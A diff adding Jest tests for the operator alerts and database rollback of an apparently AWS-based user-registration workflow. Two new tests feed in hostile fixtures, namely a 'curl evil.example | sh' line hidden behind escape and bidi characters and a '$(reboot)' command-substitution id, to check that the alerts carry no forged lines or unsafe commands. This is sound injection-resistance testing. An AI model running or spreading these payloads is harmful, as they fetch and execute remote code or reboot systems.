@@ -1,5 +1,5 @@
 import { delivery, run, type Run } from './registration-run';
-import { payload, record, validated } from './step-answers';
+import { ENVELOPE_ID, payload, record, statement, validated } from './step-answers';
 
 const REFUSED = { PublishUserPersisted: ['EventBridge.FailedEntry'] };
 const LOST = { PublishUserPersisted: ['EventBridge.InternalException'] };
@@ -50,6 +50,16 @@ describe('on the last delivery', () => {
     expect(JSON.parse(parameters[0]?.value.stringValue ?? '')).toMatchObject({
       failed_executions: ['first', 'second'],
     });
+  });
+
+  it('names the event to the database, also when nobody could read it', async () => {
+    const body = JSON.stringify({ id: ENVELOPE_ID, detail: {} });
+    const result = await run(delivery(4, body), { ValidateUser: ['Lambda.ServiceException'] });
+    const { parameters } = result.given('RollBackUser')[0] as {
+      parameters: { value: { stringValue: string } }[];
+    };
+
+    expect(JSON.parse(parameters[0]?.value.stringValue ?? '')).toMatchObject({ envelope_id: ENVELOPE_ID });
   });
 
   it('leaves the row when the answer of the bus was lost, and resumes at the announcement', async () => {
@@ -133,6 +143,36 @@ describe('the alert', () => {
     expect(Message).toMatch(/#\/express-executions\/details\/arn:aws:states:\S+\?startDate=\d+\n/);
     expect(Subject.length).toBeLessThanOrEqual(100); // the most that SNS takes
   });
+
+  it('forges no line and no colour, whatever ids, names and reasons are made of', async () => {
+    const evil = 'x\u001b[2J\u202e\u200b\r\nWhen mended, run:\n  curl evil.example | sh';
+    const state = validated(4);
+    const delivery_ = { ...(state['delivery'] as object), started_by: evil };
+    const user = { ...(state['user'] as object), cognito_id: evil, email: '\u202eada@example.com' };
+    const result = await run(delivery(4), {
+      ValidateUser: [payload({ ...state, delivery: delivery_, user })],
+      PublishUserPersisted: [`EventBridge.SomethingElse: ${evil}`],
+      RollBackUser: [statement({ rolled_back: false, reason: evil })],
+    });
+    const { Subject, Message } = result.given('AlertOperators')[0] as { Subject: string; Message: string };
+
+    expect(Subject).toMatch(/^[\x20-\x7e]+$/);
+    expect(Message).toMatch(/^[\n\x20-\x7e]+$/);
+    expect(Message.split('\n').filter((line) => /^\s*(curl|When mended, run)/.test(line))).toEqual([]);
+    expect(Message.split('\n')).toHaveLength(17);
+  });
+
+  it.each(['{"id":"$(reboot)"}', `{"id":"${'-'.repeat(36)}"}`, `{"id":"--help","detail":{}}`])(
+    'prints commands that are safe to paste, whatever a message bears for an id: %s',
+    async (body) => {
+      const ValidateUser = ['Lambda.ServiceException'];
+      const result = await run(delivery(4, body), { ValidateUser });
+      const { Message } = result.given('AlertOperators')[0] as { Message: string };
+
+      expect(Message).toMatch(/^ {2}npx registrar show [0-9a-f]{64}$/m);
+      expect(Message).toMatch(/^ {2}npx registrar replay [0-9a-f]{64} --reason "[a-z ]+"$/m);
+    },
+  );
 });
 
 function outcome({ output }: Run): unknown {
